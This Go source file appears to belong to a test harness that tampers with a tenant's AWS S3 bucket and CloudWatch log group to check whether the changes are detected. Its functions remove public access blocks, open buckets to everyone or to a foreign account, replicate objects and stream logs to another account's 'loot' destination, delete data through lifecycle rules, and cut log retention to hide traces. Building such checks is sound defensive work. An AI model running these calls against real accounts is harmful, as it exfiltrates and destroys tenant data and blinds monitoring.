package attacks

import (
	"context"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatchlogs"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
)

func (h Hand) s3() *s3.Client {
	return s3.NewFromConfig(h.Config, func(o *s3.Options) { o.UsePathStyle = true })
}

func (h Hand) logs() *cloudwatchlogs.Client { return cloudwatchlogs.NewFromConfig(h.Config) }

// block sets the switches that keep a bucket from becoming public.
func (h Hand) block(ctx context.Context, acls, ignore, policy, restrict bool) error {
	return did(ctx, h.s3().PutPublicAccessBlock, &s3.PutPublicAccessBlockInput{
		Bucket: h.output("data", "name"), PublicAccessBlockConfiguration: &types.PublicAccessBlockConfiguration{
			BlockPublicAcls: &acls, IgnorePublicAcls: &ignore, BlockPublicPolicy: &policy, RestrictPublicBuckets: &restrict,
		},
	})
}

func (h Hand) ownership(ctx context.Context, ownership types.ObjectOwnership) error {
	return did(ctx, h.s3().PutBucketOwnershipControls, &s3.PutBucketOwnershipControlsInput{
		Bucket: h.output("data", "name"), OwnershipControls: &types.OwnershipControls{Rules: []types.OwnershipControlsRule{{ObjectOwnership: ownership}}},
	})
}

func (h Hand) encryption(ctx context.Context, by types.ServerSideEncryptionByDefault) error {
	return did(ctx, h.s3().PutBucketEncryption, &s3.PutBucketEncryptionInput{
		Bucket: h.output("data", "name"), ServerSideEncryptionConfiguration: &types.ServerSideEncryptionConfiguration{
			Rules: []types.ServerSideEncryptionRule{{ApplyServerSideEncryptionByDefault: &by}},
		},
	})
}

func bucketAttacks() []Attack {
	return append(bucketDoors(),
		changed(bucket, "encryption.algorithm", "goes back to S3's own keys", "new objects are readable without the tenant's key", func(ctx context.Context, h Hand) error {
			return h.encryption(ctx, types.ServerSideEncryptionByDefault{SSEAlgorithm: types.ServerSideEncryptionAes256})
		}),
		changed(bucket, "encryption.kmsKey", "encrypts with a key of another account", "whoever has that key decides who can read new objects", func(ctx context.Context, h Hand) error {
			return h.encryption(ctx, types.ServerSideEncryptionByDefault{
				SSEAlgorithm: types.ServerSideEncryptionAwsKms, KMSMasterKeyID: aws.String("arn:aws:kms:eu-central-1:" + h.Stranger + ":key/theirs"),
			})
		}),
		changed(bucket, "versioning", "suspends versioning", "what is overwritten or deleted from then on is lost", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().PutBucketVersioning, &s3.PutBucketVersioningInput{
				Bucket: h.output("data", "name"), VersioningConfiguration: &types.VersioningConfiguration{Status: types.BucketVersioningStatusSuspended},
			})
		}),
		changed(bucket, "lifecycle", "adds a rule that deletes everything after a day", "S3 destroys the data, and no delete call shows", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().PutBucketLifecycleConfiguration, &s3.PutBucketLifecycleConfigurationInput{
				Bucket: h.output("data", "name"), LifecycleConfiguration: &types.BucketLifecycleConfiguration{Rules: []types.LifecycleRule{{
					ID: aws.String("cleanup"), Status: types.ExpirationStatusEnabled, Filter: &types.LifecycleRuleFilter{Prefix: aws.String("")},
					Expiration: &types.LifecycleExpiration{Days: aws.Int32(1)},
				}}},
			})
		}),
		changed(bucket, "lifecycle", "deletes the lifecycle rules", "data is kept for longer than was promised", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().DeleteBucketLifecycle, &s3.DeleteBucketLifecycleInput{Bucket: h.output("data", "name")})
		}),
		changed(bucket, "tags.tenant", "changes a tag", "costs are billed to somebody else, and policies that look at tags let others in", func(ctx context.Context, h Hand) error {
			return h.retagBucket(ctx, func(key, value string) (string, bool) {
				return strings.ReplaceAll(value, "acme", "globex"), key == "tenant"
			})
		}),
		changed(bucket, "retired", "puts the tag on that marks what is out of service", "a later commit takes the bucket for one that is done with", func(ctx context.Context, h Hand) error {
			return h.retagBucket(ctx, func(string, string) (string, bool) { return "", false }, types.Tag{Key: aws.String("tenantry:retired"), Value: aws.String("2026-01-01T00:00:00Z")})
		}),
		vanished(bucket, "tidies the ownership tags away", "nobody looks after the bucket any more", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().DeleteBucketTagging, &s3.DeleteBucketTaggingInput{Bucket: h.output("data", "name")})
		}),
		vanished(bucket, "deletes the bucket", "the data is gone", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().DeleteBucket, &s3.DeleteBucketInput{Bucket: h.output("data", "name")})
		}),
	)
}

// retagBucket changes the tags that a function knows another value for, and adds more.
func (h Hand) retagBucket(ctx context.Context, change func(key, value string) (string, bool), more ...types.Tag) error {
	out, err := h.s3().GetBucketTagging(ctx, &s3.GetBucketTaggingInput{Bucket: h.output("data", "name")})
	if err != nil {
		return err
	}
	tags := more
	for _, tag := range out.TagSet {
		value := *tag.Value
		if other, changes := change(*tag.Key, value); changes {
			value = other
		}
		tags = append(tags, types.Tag{Key: tag.Key, Value: &value})
	}
	return did(ctx, h.s3().PutBucketTagging, &s3.PutBucketTaggingInput{Bucket: h.output("data", "name"), Tagging: &types.Tagging{TagSet: tags}})
}

// bucketDoors are the ways to let others in, or data out.
func bucketDoors() []Attack {
	return []Attack{
		changed(bucket, "publicAccessBlock.blockPublicAcls", "lets access control lists make objects public", "one upload with a public list is readable by everybody", func(ctx context.Context, h Hand) error {
			return h.block(ctx, false, true, true, true)
		}),
		changed(bucket, "publicAccessBlock.ignorePublicAcls", "lets public access control lists count", "objects that had one become public", func(ctx context.Context, h Hand) error {
			return h.block(ctx, true, false, true, true)
		}),
		changed(bucket, "publicAccessBlock.blockPublicPolicy", "lets a policy make the bucket public", "the next policy can open it to everybody", func(ctx context.Context, h Hand) error {
			return h.block(ctx, true, true, false, true)
		}),
		changed(bucket, "publicAccessBlock.restrictPublicBuckets", "lets others in by a public policy", "a policy with * reaches everybody", func(ctx context.Context, h Hand) error {
			return h.block(ctx, true, true, true, false)
		}),
		changed(bucket, "publicAccessBlock.blockPublicAcls", "takes the public access block away", "nothing keeps the bucket from becoming public", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().DeletePublicAccessBlock, &s3.DeletePublicAccessBlockInput{Bucket: h.output("data", "name")})
		}),
		changed(bucket, "policy", "opens the bucket to the world", "everybody can read and delete", func(ctx context.Context, h Hand) error {
			return each(
				func() error {
					return did(ctx, h.s3().DeletePublicAccessBlock, &s3.DeletePublicAccessBlockInput{Bucket: h.output("data", "name")})
				},
				func() error {
					return did(ctx, h.s3().PutBucketPolicy, &s3.PutBucketPolicyInput{Bucket: h.output("data", "name"), Policy: openTo("*", *h.output("data", "arn"))})
				},
			)
		}),
		changed(bucket, "policy", "opens the bucket to another account", "its administrators can read and delete", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().PutBucketPolicy, &s3.PutBucketPolicyInput{Bucket: h.output("data", "name"), Policy: openTo(account(h.Stranger), *h.output("data", "arn"))})
		}),
		changed(bucket, "policy", "deletes the bucket policy", "what it denied is allowed, such as access without TLS", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().DeleteBucketPolicy, &s3.DeleteBucketPolicyInput{Bucket: h.output("data", "name")})
		}),
		changed(bucket, "objectOwnership", "lets access control lists count again", "whoever uploads an object decides who can read it", func(ctx context.Context, h Hand) error {
			return h.ownership(ctx, types.ObjectOwnershipObjectWriter)
		}),
		changed(bucket, "objectOwnership", "opens the bucket to another account by an access control list", "a way in that no policy shows", func(ctx context.Context, h Hand) error {
			return each(
				func() error { return h.ownership(ctx, types.ObjectOwnershipBucketOwnerPreferred) },
				func() error {
					return did(ctx, h.s3().PutBucketAcl, &s3.PutBucketAclInput{Bucket: h.output("data", "name"), GrantFullControl: aws.String("id=" + h.Stranger), ACL: types.BucketCannedACLAuthenticatedRead})
				},
			)
		}),
		changed(bucket, "replication", "copies new objects to a bucket of another account", "every object leaves the account as it is written", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().PutBucketReplication, &s3.PutBucketReplicationInput{
				Bucket: h.output("data", "name"), ReplicationConfiguration: &types.ReplicationConfiguration{
					Role: h.output("app", "arn"), Rules: []types.ReplicationRule{{
						ID: aws.String("backup"), Status: types.ReplicationRuleStatusEnabled, Priority: aws.Int32(1), Filter: &types.ReplicationRuleFilter{Prefix: aws.String("")},
						DeleteMarkerReplication: &types.DeleteMarkerReplication{Status: types.DeleteMarkerReplicationStatusDisabled},
						Destination:             &types.Destination{Bucket: &h.Bucket},
					}},
				},
			})
		}),
		changed(bucket, "notifications", "tells a queue of another account what is written", "strangers learn the names of all new objects", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().PutBucketNotificationConfiguration, &s3.PutBucketNotificationConfigurationInput{
				Bucket: h.output("data", "name"), NotificationConfiguration: &types.NotificationConfiguration{
					QueueConfigurations: []types.QueueConfiguration{{Id: aws.String("x"), QueueArn: &h.Queue, Events: []types.Event{types.EventS3ObjectCreated}}},
				},
			})
		}),
		changed(bucket, "eventBridge", "sends the bucket's events to EventBridge", "a rule there can pass them on to anybody", func(ctx context.Context, h Hand) error {
			return did(ctx, h.s3().PutBucketNotificationConfiguration, &s3.PutBucketNotificationConfigurationInput{
				Bucket: h.output("data", "name"), NotificationConfiguration: &types.NotificationConfiguration{EventBridgeConfiguration: &types.EventBridgeConfiguration{}},
			})
		}),
	}
}

func logAttacks() []Attack {
	group := func(h Hand) *string { return h.output("logs", "name") }
	retain := func(days int32) func(context.Context, Hand) error {
		return func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().PutRetentionPolicy, &cloudwatchlogs.PutRetentionPolicyInput{LogGroupName: group(h), RetentionInDays: &days})
		}
	}
	send := func(name, to string) func(context.Context, Hand) error {
		return func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().PutSubscriptionFilter, &cloudwatchlogs.PutSubscriptionFilterInput{
				LogGroupName: group(h), FilterName: &name, FilterPattern: aws.String(""),
				DestinationArn: aws.String("arn:aws:logs:eu-central-1:" + h.Stranger + ":destination:" + to),
			})
		}
	}
	return []Attack{
		changed(logGroup, "retentionDays", "keeps logs for one day", "what was logged before, of the attack as well, is deleted", retain(1)),
		changed(logGroup, "retentionDays", "keeps logs for ever", "personal data is kept for longer than was promised", func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().DeleteRetentionPolicy, &cloudwatchlogs.DeleteRetentionPolicyInput{LogGroupName: group(h)})
		}),
		changed(logGroup, "kmsKey", "takes the key off the log group", "new logs are readable without the tenant's key", func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().DisassociateKmsKey, &cloudwatchlogs.DisassociateKmsKeyInput{LogGroupName: group(h)})
		}),
		changed(logGroup, "kmsKey", "encrypts logs with another key", "whoever has that key decides who can read new logs", func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().AssociateKmsKey, &cloudwatchlogs.AssociateKmsKeyInput{LogGroupName: group(h), KmsKeyId: aws.String("arn:aws:kms:eu-central-1:" + h.Stranger + ":key/theirs")})
		}),
		changed(logGroup, "subscriptionFilters", "sends all logs to another account", "strangers read along", send("audit", "loot")),
		changed(logGroup, "subscriptionFilters", "redirects the subscription filter that is there", "logs stop where they should arrive, and strangers read along", send("siem", "loot")),
		changed(logGroup, "subscriptionFilters", "deletes the subscription filter", "nobody watches the logs any more", func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().DeleteSubscriptionFilter, &cloudwatchlogs.DeleteSubscriptionFilterInput{LogGroupName: group(h), FilterName: aws.String("siem")})
		}),
		changed(logGroup, "tags.tenant", "changes a tag", "costs are billed to somebody else", func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().TagResource, &cloudwatchlogs.TagResourceInput{ResourceArn: h.output("logs", "arn"), Tags: map[string]string{"tenant": "globex"}})
		}),
		vanished(logGroup, "tidies the ownership tags away", "nobody looks after the log group any more", func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().UntagResource, &cloudwatchlogs.UntagResourceInput{ResourceArn: h.output("logs", "arn"), TagKeys: marks})
		}),
		vanished(logGroup, "deletes the log group", "the traces are gone", func(ctx context.Context, h Hand) error {
			return did(ctx, h.logs().DeleteLogGroup, &cloudwatchlogs.DeleteLogGroupInput{LogGroupName: group(h)})
		}),
	}
}

// marks are the tags by which a resource is ours.
var marks = []string{"tenantry:fleet", "tenantry:address", "tenantry:nonce"}
